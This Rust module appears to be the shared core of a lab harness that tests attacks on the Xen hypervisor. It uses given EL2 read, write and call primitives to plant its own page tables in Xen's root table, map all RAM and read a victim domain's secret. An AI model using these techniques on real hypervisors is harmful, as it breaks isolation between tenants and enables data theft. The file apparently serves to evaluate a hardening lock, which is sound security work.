//! What every vector works with: the primitives, what is known of Xen, the
//! victim, and memory of one's own. All of it is learned before the blow.

use std::collections::HashMap;
use std::process::Command;

use xenctrl_ffi::{DomId, Machine, MachineStatus};

use crate::Failure;
use crate::memory::{PAGE, Page};
use crate::primitive::{Primitive, Stop};
use crate::symbols::Symbols;
use crate::tables;
use crate::vectors::Outcome;
use crate::victim::{Domain, Victim};

/// A slot of Xen's root table, 512 GiB, that Xen and the vectors leave alone.
const READING_SLOT: u64 = 42;

/// Before or after the blow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    /// Nothing is blown.
    Before,
    /// The machine is locked.
    After,
}

/// Everything that vectors share.
pub struct Lab {
    /// L1, L2 and L3.
    pub primitive: Primitive,
    /// What is known of Xen.
    pub symbols: Symbols,
    /// `vmf_op`.
    pub machine: Machine,
    /// Now.
    pub phase: Phase,
    /// Number of online CPUs.
    pub cpus: u32,
    /// Xen maps all RAM.
    pub directmap: bool,
    directmap_start: u64,
    directmap_base: u64,
    /// Frames that were mapped on demand to be read.
    borrowed: HashMap<u64, u64>,
    own: Option<Domain>,
    victim: Option<Victim>,
    expendable: Option<Victim>,
    /// A page of the xenheap: memory at EL2 that is the attacker's.
    pub scratch: u64,
    /// A level-1 table that maps all RAM below 512 GiB at EL2, for data.
    pub all_ram: Page,
    /// A copy of Xen's root table with all RAM as data (made by V09).
    pub saved_root: Option<Page>,
    /// `TTBR0_EL2`: machine address of Xen's root table.
    pub root: u64,
    /// The image's offset: machine address minus virtual.
    pub image_offset: u64,
}

impl Lab {
    /// Opens the way to Xen.
    pub fn open(symbols: Symbols) -> Result<Self, Failure> {
        let primitive = Primitive::open().map_err(|error| Failure(error.to_string()))?;
        let machine = Machine::open().map_err(|error| Failure(error.to_string()))?;
        let status: MachineStatus = machine
            .status()
            .map_err(|error| Failure(error.to_string()))?;
        let all_ram = Page::new()?;
        for gib in 0..512 {
            all_ram.put(gib as usize, tables::stage1_gib(gib << 30));
        }
        all_ram.publish();
        let mut lab = Self {
            primitive,
            symbols,
            machine,
            phase: Phase::Before,
            cpus: 0,
            directmap: status.directmap,
            directmap_start: 0,
            directmap_base: 0,
            borrowed: HashMap::new(),
            own: None,
            victim: None,
            expendable: None,
            scratch: 0,
            all_ram,
            saved_root: None,
            root: 0,
            image_offset: 0,
        };
        lab.cpus = (0..8)
            .take_while(|cpu| {
                let text = lab.symbols.find("_start").unwrap_or_default();
                lab.primitive.load(*cpu, text).is_ok()
            })
            .count() as u32;
        lab.directmap_start = lab.read(lab.symbols.symbol("directmap_virt_start")?)?;
        lab.directmap_base = lab.read(lab.symbols.symbol("directmap_base_pdx")?)?;
        lab.root = lab.read(lab.symbols.symbol("init_ttbr")?)?;
        if lab.cpus == 0 || lab.root == 0 {
            return Err(Failure(
                "Xen's root table is not known: the lab needs two CPUs".into(),
            ));
        }
        lab.image_offset = lab.root.wrapping_sub(lab.symbols.symbol("xen_pgtable")?);
        let alloc = lab.symbols.symbol("alloc_xenheap_pages")?;
        lab.scratch = lab.primitive.call(0, alloc, &[0, 0])?;
        Ok(lab)
    }

    /// Learns where the domains are.
    pub fn look(
        &mut self,
        own: u16,
        victim: (u16, u64),
        expendable: (u16, u64),
    ) -> Result<(), Failure> {
        self.own = Some(Domain::find(self, own)?);
        self.victim = Some(Victim::find(self, victim.0, victim.1)?);
        self.expendable = Some(Victim::find(self, expendable.0, expendable.1)?);
        self.give_back()
    }

    /// The domain that this program runs in.
    pub fn own(&self) -> Domain {
        self.own.clone().expect("look() comes first")
    }

    /// The domain that is attacked.
    pub fn victim(&self) -> Victim {
        self.victim.clone().expect("look() comes first")
    }

    /// Another one, whose end does not matter.
    pub fn expendable(&self) -> Victim {
        self.expendable.clone().expect("look() comes first")
    }

    /// Reads a word at EL2 on CPU 0.
    pub fn read(&self, va: u64) -> Result<u64, Stop> {
        self.primitive.load(0, va)
    }

    /// The address of a machine address in the directmap.
    pub fn directmap_va(&self, maddr: u64) -> u64 {
        let frame = maddr / PAGE - self.directmap_base;
        self.directmap_start + frame * PAGE + maddr % PAGE
    }

    /// Reads a word of RAM: through the directmap, or else through a mapping
    /// that Xen makes on demand (L3). A page that has left the directmap, as at
    /// level `unmap`, is read through a table of the attacker's own (L2).
    pub fn read_physical(&mut self, maddr: u64) -> Result<u64, Stop> {
        if self.directmap {
            return self
                .read(self.directmap_va(maddr))
                .or_else(|_| self.read_by_table(maddr));
        }
        let frame = maddr / PAGE;
        let va = match self.borrowed.get(&frame) {
            Some(va) => *va,
            None => {
                let map = self.symbols.find("vmf_map_slowly").unwrap_or_default();
                let va = self.primitive.call(0, map, &[frame])?;
                self.borrowed.insert(frame, va);
                va
            }
        };
        self.read(va + maddr % PAGE)
    }

    /// The same where Xen's root table can be written, which the lock ends.
    fn read_by_table(&self, maddr: u64) -> Result<u64, Stop> {
        let symbol = |name: &str| self.symbols.find(name).unwrap_or_default();
        let (root, flush) = (symbol("xen_pgtable"), symbol("vmf_c_flush_all"));
        let at = root + 8 * READING_SLOT;
        self.primitive
            .store(0, at, tables::table(self.all_ram.address))?;
        self.primitive.call(0, flush, &[])?;
        let word = self.read((READING_SLOT << 39) + maddr);
        self.primitive.store(0, at, 0)?;
        self.primitive.call(0, flush, &[])?;
        word
    }

    /// Ends the mappings that reading has made.
    pub fn give_back(&mut self) -> Result<(), Failure> {
        let borrowed: Vec<u64> = self.borrowed.drain().map(|(_, va)| va).collect();
        borrowed.into_iter().try_for_each(|va| self.unmap(va))
    }

    /// Ends a mapping that CPU 0 has made on demand; one in the directmap has no
    /// end.
    pub fn unmap(&self, va: u64) -> Result<(), Failure> {
        let unmap = self.symbols.symbol("vmf_window_unmap")?;
        let window = self.read(self.symbols.symbol("vmf_windows")?)?;
        self.primitive.call(0, unmap, &[window, va])?;
        Ok(())
    }

    /// Whether a word at EL2 is the victim's secret, read on one CPU.
    pub fn secret_on(&self, cpu: u32, va: u64, what: &str) -> Outcome {
        let secret = self.victim().secret;
        match self.primitive.load(cpu, va) {
            Ok(word) if word == secret.word => Outcome::Success(format!(
                "{what}: CPU {cpu} reads the secret {word:#018x} at {va:#x}"
            )),
            Ok(word) => Outcome::Failed(format!(
                "{what}: CPU {cpu} reads {word:#x} at {va:#x}, which is not the secret"
            )),
            Err(stop) => Outcome::Failed(format!("{what}: CPU {cpu}: {stop}")),
        }
    }

    /// The same on every CPU: one that succeeds is enough.
    pub fn secret_at(&self, va: u64, what: &str) -> Outcome {
        let each = (0..self.cpus).map(|cpu| self.secret_on(cpu, va, what));
        Outcome::any(each.collect())
    }

    /// Runs a program of dom0; returns its exit code and what it has printed.
    pub fn run(program: &str, arguments: &[&str]) -> Result<(i32, String), Failure> {
        let output = Command::new(program)
            .args(arguments)
            .output()
            .map_err(|error| Failure::io(program, &error))?;
        let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&output.stderr));
        Ok((output.status.code().unwrap_or(-1), text.trim().to_owned()))
    }

    /// Empties the EL2 part of all TLBs, as a tidy attacker does.
    pub fn flush_el2(&self) -> Result<(), Failure> {
        let flush = self.symbols.symbol("vmf_c_flush_all")?;
        self.primitive.call(0, flush, &[])?;
        Ok(())
    }

    /// Empties the guests' part of all TLBs.
    pub fn flush_guests(&self) -> Result<(), Failure> {
        let flush = self.symbols.symbol("vmf_c_flush_guests")?;
        self.primitive.call(0, flush, &[])?;
        Ok(())
    }

    /// The id of a domain for `vmf_op`.
    pub fn dom_id(id: u16) -> Result<DomId, Failure> {
        DomId::new(id.into()).ok_or_else(|| Failure(format!("{id} is no domain's id")))
    }
}
